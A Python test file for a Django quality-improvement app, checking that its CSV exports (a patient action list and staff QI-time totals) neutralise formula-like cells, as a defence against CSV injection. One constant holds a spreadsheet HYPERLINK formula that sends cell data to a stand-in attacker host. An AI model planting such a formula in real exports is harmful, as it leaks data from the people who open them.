"""The workbench's CSV downloads write formula-like cells as text (OWASP CSV injection): the action list and
the QI-time totals."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pandas as pd
from django.conf import settings
from django.urls import reverse

from qiloop_web.teamwork.models import TimeEntry

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_action_list_csv_neutralises_an_imported_code(client, universe, measured, monkeypatch):
    from qiloop.measures.actions import ActionList
    from qiloop.measures.language import action_spec, age, measure, sex
    from qiloop_web.dashboard import action_lists

    coded = measure(
        id="pincer_a", title="Coded", denominator=age >= 65, numerator=age >= 70, low_is_good=True,
        action_list=action_spec(who="coded", action="review", columns={"Last code": sex}, order_by="Last code",
                                order="by code"),
    )  # fmt: skip
    table = pd.DataFrame({"patient_id": [7, 9], "Last code": [FORMULA, "-5"]})
    listed = ActionList(coded, "A00001", date(2026, 3, 31), 2, table)
    cache = Path(settings.VAR_DIR) / "cache"
    action_lists.forget(cache)  # a list kept by an earlier test would be served instead
    monkeypatch.setattr("qiloop_web.dashboard.views.compute_action_list", lambda *a, **k: listed)
    monkeypatch.setattr("qiloop_web.dashboard.views.compute_action_lists", lambda *a, **k: {"A00001": listed})
    client.force_login(universe.people["gp"])
    response = client.get(reverse("dashboard:action-list-csv", args=["A00001", "pincer_a"]))
    action_lists.forget(cache)  # and this made-up list must not be served to a later test, from memory or file
    assert response.status_code == 200
    assert rows(response) == [
        ["patient_id", "Last code"],
        ["7", "'" + FORMULA],
        ["9", "-5"],  # a plain number stays a number
    ]


def test_the_qi_time_csv_neutralises_its_cells(client, universe, monkeypatch):
    TimeEntry.objects.create(
        practice=universe.practice, user=universe.people["gp"], role="gp", meeting="Huddle",
        spent_on=date(2026, 1, 5), minutes=60,
    )  # fmt: skip
    monkeypatch.setattr("qiloop_web.teamwork.totals.role_label", lambda role: FORMULA)
    client.force_login(universe.people["receptionist"])
    response = client.get(reverse("teamwork:time-csv", args=["A00001"]))
    assert rows(response) == [
        ["month", "role", "role_label", "minutes", "hours"],
        ["2026-01", "gp", "'" + FORMULA, "60", "1.00"],
    ]
